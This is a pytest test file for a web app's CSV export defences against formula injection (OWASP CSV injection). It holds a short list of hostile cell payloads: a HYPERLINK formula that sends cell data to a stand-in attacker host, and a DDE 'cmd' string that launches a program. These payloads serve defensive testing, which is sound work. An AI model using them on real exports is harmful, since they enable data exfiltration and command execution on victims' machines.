"""Every CSV download neutralises formula cells (OWASP's CSV-injection rule; issue 12)."""

import ast
import csv
import io
from pathlib import Path

import pytest

from agreement import services as agreement_services
from annotation import services
from core.csv_safe import safe_cell
from quizzes.models import Invitation
from tests.factories import AnnotatorFactory, BatchFactory, ComparisonFactory, UserFactory, VendorManagerFactory
from tests.helpers import client_for, page_client_for, rate

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]


@pytest.mark.parametrize("value", [*HOSTILE, "\tTAB", "\rCR"])
def test_formula_cells_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.25", "+3", "1e-05", -0.5, 12, "plain", "a=b", "", None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_no_download_writes_csv_around_the_safe_writer():
    """A future download that builds its CSV with the csv module directly fails here."""
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if {".venv", "var", "media", "tests", "benchmarks", "migrations"} & set(parts) or path.name == "csv_safe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, "write CSV downloads with core.csv_safe.writer: " + ", ".join(offenders)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_the_agreement_tables_neutralise_a_hostile_batch_name():
    batch = BatchFactory(name=HOSTILE[0], overlap=2)
    people = [AnnotatorFactory(), AnnotatorFactory()]
    ComparisonFactory.create_batch(2, batch=batch)
    for annotator in people:
        for _ in range(2):
            lease = services.assignment_next(annotator=annotator, batch=batch)
            rate(annotator, lease.assignment)
    agreement_services.agreement_recompute(batch_id=batch.pk)
    api = client_for(UserFactory())
    trend = cells(api.get("/api/agreement-reports/trend/?format=csv").content.decode())
    history = cells(
        api.get(f"/api/agreement-reports/annotator-history/?annotator={people[0].pk}&format=csv").content.decode()
    )
    for table in (trend, history):
        values = [value for row in table[1:] for value in row]
        assert "'" + HOSTILE[0] in values
        assert HOSTILE[0] not in values


@pytest.mark.django_db
def test_the_invitations_download_neutralises_a_hostile_email():
    manager = VendorManagerFactory()
    client = page_client_for(manager)
    client.post("/vendor/candidates/", {"emails": "=1+2@example.org"})
    assert Invitation.objects.get().email == "=1+2@example.org"
    rows = cells(client.get("/vendor/invitations.csv").content.decode())
    assert rows[1][0] == "'=1+2@example.org"
